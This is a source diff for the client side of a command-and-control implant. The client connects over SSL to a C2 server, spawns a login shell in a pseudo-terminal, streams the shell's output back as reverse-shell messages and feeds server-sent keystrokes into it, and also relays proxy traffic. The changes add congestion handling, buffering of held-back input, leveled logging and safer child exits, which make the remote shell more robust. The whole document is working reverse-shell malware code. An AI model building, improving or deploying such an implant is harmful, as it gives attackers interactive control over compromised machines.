@@ -16,6 +16,7 @@
 #include <csignal>
 #include <cstring>
 #include <cstdio>
+#include <string>
 
 #include "core.h"
 #include "ssl.h"
@@ -24,6 +25,7 @@
 #define DEFAULT_ROWS 25
 #define DEFAULT_COLS 80
 #define READ_BUFSIZE 8192 
+#define URGENT_BYTES 256                // shorter pty reads are sent at once
 
 ////////////////////////////////////////////////////////////////////////////////
 // wrapper class for shell spawned in pty
@@ -39,6 +41,7 @@ public:
     int pty_init(int rows, int cols);
     int pty_read(char * buf, int len);
     int pty_write(const char * buf, int len);
+    int pty_flush();
 
     // getters
     pid_t pid() const { return slave_pid; }
@@ -51,6 +54,7 @@ protected:
     int master_fd;
     pid_t slave_pid;
     struct winsize ws;
+    std::string m_input;                // input the pty couldn't take yet
 };
 
 ////////////////////////////////////////////////////////////////////////////////
@@ -65,6 +69,7 @@ int main(int argc, char **argv) {
     int write_count = 0;
     int proxy_count = 0;
     char buf[READ_BUFSIZE];
+    message msg; // reused for every received frame, keeps its buffer
 
     // initialise debug log
     log_init(argv[0], LOG_FILE | LOG_ECHO);
@@ -79,52 +84,68 @@ int main(int argc, char **argv) {
 
     // connect via SSL to c2 server (blocking)
     if (tpt.init(TPT_CLIENT) < 0) {
-        LOG("fatal: failed to establish transport connection\n");    
+        LOG_ERROR("fatal: failed to establish transport connection\n");    
         exit(-1);
     }
 
     // spawn shell inside psuedo terminal
     if (shell.pty_init(DEFAULT_ROWS, DEFAULT_COLS) < 0) {
-        LOG("fatal: pty init failed!\n");
+        LOG_ERROR("fatal: pty init failed!\n");
         exit(-1);
     } else {
         int rows, cols;
         shell.window_size(&rows, &cols);
-        LOG("info: spawned %dx%d pty shell (%d)\n", rows, cols, shell.pid());
+        LOG_INFO("info: spawned %dx%d pty shell (%d)\n", 
+                 rows, cols, shell.pid());
     }
 
     // start client loop
-    LOG("info: starting loop...\n");
+    LOG_INFO("info: starting loop...\n");
     while (1) {
         
-        // check for shell output (read pty pipe) (non-blocking)
-        int bytes = shell.pty_read(buf, sizeof(buf));
+        // check for shell output (read pty pipe) (non-blocking). while the 
+        // server isn't keeping up the shell is left to stall on a full pty,
+        // waiting briefly on the socket instead so the queue can drain
+        int bytes = 0;
+        if (tpt.congested()) {
+            struct pollfd pfd;
+            pfd.fd = tpt.fd();
+            pfd.events = POLLIN | (tpt.wants_write() ? POLLOUT : 0);
+            pfd.revents = 0;
+            poll(&pfd, 1, 10);
+        } else {
+            bytes = shell.pty_read(buf, sizeof(buf));
+        }
         if (bytes < 0) {
-            LOG("fatal: tty_read(%d)\n", bytes);
+            LOG_ERROR("fatal: tty_read(%d)\n", bytes);
             break;
         } else if (bytes > 0) {
             
             // log output to file / stdout
-            LOG("RD: [%04d] %d bytes\n", read_count++, bytes);
-            hexdump(buf, bytes);
+            LOG_TRACE("RD: [%04d] %d bytes\n", read_count++, bytes);
+            LOG_HEXDUMP(LOG_LEVEL_TRACE, buf, bytes);
 
-            // send shell output to c2 server
+            // send shell output to c2 server, bulk output is held back 
+            // briefly to share tls records but a short read (e.g. the echo 
+            // of a keystroke) ends a burst so it goes straight away
             int bytes_sent = 0;
+            bool urgent = (bytes < URGENT_BYTES);
             while (bytes_sent < bytes) {
-                message msg(MSG_RVSHELL, buf + bytes_sent, bytes - bytes_sent);
-                tpt.send(msg);
-                bytes_sent += msg.body_len();
+                message out(MSG_RVSHELL, buf + bytes_sent, bytes - bytes_sent);
+                if (tpt.send(out, urgent) < 0) {
+                    break;
+                }
+                bytes_sent += out.body_len();
             }
         } 
 
         // check for terminal input from c2 server (non-blocking)
-        message msg;
         bytes = tpt.recv(msg);
         if (bytes == TPT_CLOSE) {
-            LOG("fatal: c2 connection terminated\n");
+            LOG_ERROR("fatal: c2 connection terminated\n");
             break;
         } else if (bytes == TPT_ERROR) {
-            LOG("fatal: transport failure\n");
+            LOG_ERROR("fatal: transport failure\n");
             break;
         } else if (bytes != TPT_EMPTY) {
             
@@ -136,7 +157,7 @@ int main(int argc, char **argv) {
                     // log the resize to file / stdout
                     int * rows = (int*)(msg.body());
                     int * cols = (int*)(msg.body() + sizeof(int));
-                    LOG("WND: resizing to %dx%d\n", *rows, *cols);
+                    LOG_DEBUG("WND: resizing to %dx%d\n", *rows, *cols);
 
                     // tell the client shell to resize itself
                     shell.resize(*rows, *cols); 
@@ -146,13 +167,16 @@ int main(int argc, char **argv) {
                 case MSG_RVSHELL: { 
 
                     // log terminal input to file / stdout
-                    LOG("WR: [%04d] %3d '",  write_count++, bytes);
-                    for (int i = 0; i < bytes; i++) {
-                        if (isprint(msg.body()[i])) {
-                            LOG("%c", msg.body()[i]);
+                    if (LOG_ENABLED(LOG_LEVEL_TRACE)) {
+                        std::string keys;
+                        for (size_t i = 0; i < msg.body_len(); i++) {
+                            if (isprint(msg.body()[i])) {
+                                keys += msg.body()[i];
+                            }
                         }
+                        LOG_TRACE("WR: [%04d] %3d '%s'\n", write_count++, 
+                                  (int)msg.body_len(), keys.c_str());
                     }
-                    LOG("'\n");
 
                     //  send tty input to shell (write pty pipe)
                     shell.pty_write(msg.body(), msg.body_len()); 
@@ -164,23 +188,38 @@ int main(int argc, char **argv) {
                 case MSG_PROXY_FAIL:
                 case MSG_PROXY_DATA: 
                 case MSG_PROXY_DEAD: {
-                    LOG("PROXY: [%04d] %d bytes\n", proxy_count++, bytes);
-                    hexdump(msg.body(), msg.body_len());
+                    LOG_TRACE("PROXY: [%04d] %d bytes\n", 
+                              proxy_count++, (int)msg.body_len());
+                    LOG_HEXDUMP(LOG_LEVEL_TRACE, msg.body(), msg.body_len());
                     proxy.handle_msg(ssl, msg);
                     break;
                 }
 
                 default:
-                    LOG("error: invalid message type received!\n");
+                    LOG_ERROR("error: invalid message type received!\n");
                     break;
             }
         }
 
-        // handle proxy traffic routing
-        proxy.poll(ssl);
+        // write input held back by a full pty
+        if (shell.pty_flush() < 0) {
+            LOG_ERROR("fatal: pty write failed (%s)\n", strerror(errno));
+            break;
+        }
+
+        // handle proxy traffic routing, new proxy data waits with the shell
+        if (!tpt.congested()) {
+            proxy.poll(ssl);
+        }
+
+        // write out queued messages that are due or couldn't be sent yet
+        if (tpt.flush() < 0) {
+            LOG_ERROR("fatal: transport failure\n");
+            break;
+        }
     }
 
-    LOG("info: client exiting\n");
+    LOG_INFO("info: client exiting\n");
     return 0;
 }
 
@@ -218,11 +257,12 @@ int pty_shell::pty_init(int rows, int cols) {
             shell = user->pw_shell;
         }
 
-        // execute the shell in forked pty
+        // execute the shell in forked pty, the child leaves with _exit() 
+        // so the parent's atexit handlers and log thread aren't touched
         if (execl(shell, shell, "-l", NULL) < 0) {
-            exit(EXIT_FAILURE);
+            _exit(EXIT_FAILURE);
         } else {
-            exit(EXIT_SUCCESS);
+            _exit(EXIT_SUCCESS);
         }
     }
 
@@ -297,10 +337,31 @@ int pty_shell::pty_read(char * buf, int len) {
 }
 
 ////////////////////////////////////////////////////////////////////////////////
-// write to the stdin pipe for the slave shell
+// write to the stdin pipe for the slave shell, a paste can be bigger than
+// the pty will take at once so the rest is kept (in order) for pty_flush
 
 int pty_shell::pty_write(const char * buf, int len) {
-    return write(master_fd, buf, len);
+    m_input.append(buf, len);
+    return pty_flush();
+}
+
+////////////////////////////////////////////////////////////////////////////////
+// write as much held back input as the pty will take, returns -1 on error
+
+int pty_shell::pty_flush() {
+    size_t written = 0;
+    while (written < m_input.size()) {
+        ssize_t bytes = write(master_fd, m_input.data() + written, 
+                              m_input.size() - written);
+        if (bytes < 0) {
+            if (errno == EINTR) continue;
+            if (errno == EAGAIN || errno == EWOULDBLOCK) break;
+            return -1;
+        }
+        written += bytes;
+    }
+    m_input.erase(0, written);
+    return 0;
 }
 
 ////////////////////////////////////////////////////////////////////////////////
@@ -311,7 +372,7 @@ void pty_shell::resize(int rows, int cols) {
     ws.ws_col = cols;
     ioctl(master_fd, TIOCSWINSZ, &ws);
     window_size(&rows, &cols);
-    LOG("info: pty shell resized to %dx%d\n", rows, cols);
+    LOG_INFO("info: pty shell resized to %dx%d\n", rows, cols);
 }
 
 ////////////////////////////////////////////////////////////////////////////////